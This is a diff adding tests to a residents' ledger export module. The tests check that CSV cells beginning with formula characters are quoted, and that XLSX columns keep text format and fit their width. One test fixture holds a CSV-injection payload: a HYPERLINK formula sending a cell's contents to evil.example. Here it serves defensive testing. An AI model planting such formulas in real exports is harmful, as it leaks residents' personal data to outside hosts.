@@ -4,6 +4,7 @@ CSV with and without BOM; reminders; the rates report; the CLI."""
 from __future__ import annotations
 
 import csv
+import io
 import json
 from datetime import date
 from pathlib import Path
@@ -17,6 +18,7 @@ from desktop.services.ledger_cli import run_export_ledger
 from desktop.services.ledger_export import (
     LEDGER_COLUMNS,
     ExportError,
+    csv_text,
     export_ledger,
     export_rates_report,
     export_reminders,
@@ -154,3 +156,70 @@ def test_cli_export(imported: Store, tmp_path: Path, capsys: pytest.CaptureFixtu
     assert "286 rows" in capsys.readouterr().out
     assert run_export_ledger(["--area", "nope", "--out", str(out), "--profile", str(profile)]) == 2
     assert run_export_ledger(["--area", "330212", "--out", str(out), "--profile", str(tmp_path / "none")]) == 2
+
+
+#: Texts a spreadsheet would run as formulas when opened from a CSV (OWASP "CSV Injection").
+_FORMULAS = {"employer_name": '=HYPERLINK("http://evil.example/?d="&A2,"点我")', "occupation": "-2+3",
+             "note": "@SUM(1+1)", "hukou_address": "+86 某地"}
+
+
+def test_csv_cells_that_start_a_formula_get_a_quote() -> None:
+    row = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=x", "a=b", "'x", "", -5, 2.5, None]
+    [back] = list(csv.reader(io.StringIO(csv_text([row]), newline="")))
+    assert back == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "''=x", "a=b", "'x", "", "-5", "2.5", ""]
+
+
+def test_csv_export_neutralises_formulas_and_reimports_them(imported: Store, tmp_path: Path) -> None:
+    with imported.read() as conn:
+        rid = conn.execute(select(t.resident.c.id).order_by(t.resident.c.id_number)).scalars().first()
+        other = conn.execute(select(t.resident.c.id).order_by(t.resident.c.id_number.desc())).scalars().first()
+        unit = conn.execute(select(t.rental_unit.c.id)).scalars().first()
+    with imported.write() as conn:
+        write_record(conn, "resident", str(rid), _FORMULAS, user="u", device_id="d")
+        write_record(conn, "resident", str(other), {"note": "'=不是公式"}, user="u", device_id="d")
+        write_record(conn, "rental_unit", str(unit), {"landlord_name": "=1+1", "lease_end": "2024-06-20"},
+                     user="u", device_id="d")
+    out = tmp_path / "台账.csv"
+    export_ledger(imported, "330212", out, as_csv=True, bom=True)
+    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert {"'" + v for v in _FORMULAS.values()} | {"'=1+1", "''=不是公式"} <= set(cells)
+    fresh = open_store(tmp_path / "fresh.sqlite")
+    try:
+        r = import_ledger(fresh, out, user="tester", today=TODAY)
+        assert r.totals["rejected"] == r.totals["duplicate"] == 0
+        assert register(fresh) == register(imported)
+    finally:
+        fresh.close()
+    reminders = tmp_path / "提醒.csv"
+    export_reminders(imported, "330212", reminders, today=TODAY, as_csv=True)
+    assert "'=1+1" in {c for row in csv.reader(reminders.read_text(encoding="utf-8").splitlines()) for c in row}
+
+
+def test_xlsx_widths_and_text_format_on_every_data_row(imported: Store, tmp_path: Path) -> None:
+    with imported.read() as conn:
+        unit = conn.execute(select(t.rental_unit.c.id)).scalars().first()
+    with imported.write() as conn:  # an empty 房东电话, where a number typed later must stay text
+        write_record(conn, "rental_unit", str(unit), {"landlord_phone": ""}, user="u", device_id="d")
+    out = tmp_path / "ledger.xlsx"
+    export_ledger(imported, "330212", out)
+    wb = openpyxl.load_workbook(out)
+    ws = wb.active
+    assert ws is not None
+    header = [c.value for c in ws[2]]
+    col = {h: header.index(h) + 1 for h in header}
+    for h in ("公民身份号码", "联系电话", "房东电话", "房东身份证号"):
+        cells = [ws.cell(r, col[h]) for r in range(3, ws.max_row + 1)]
+        assert all(c.number_format == "@" for c in cells), h
+        assert any(c.value is None for c in cells) == (h != "公民身份号码"), h  # empty cells are formatted too
+
+    def units(v: object) -> int:  # Excel column width units: a digit 1, a CJK character 2
+        text = "" if v is None else str(v)
+        return len(text) + sum(1 for ch in text if ord(ch) > 0x2E7F)
+
+    for h in ("公民身份号码", "联系电话", "出生日期", "来鄞日期", "居住地址", "房东电话", "房东身份证号"):
+        letter = openpyxl.utils.get_column_letter(col[h])
+        width = ws.column_dimensions[letter].width
+        longest = max(units(ws.cell(r, col[h]).value) for r in range(2, ws.max_row + 1))
+        assert width >= longest, (h, width, longest)
+    assert ws.column_dimensions[openpyxl.utils.get_column_letter(col["公民身份号码"])].width >= 18
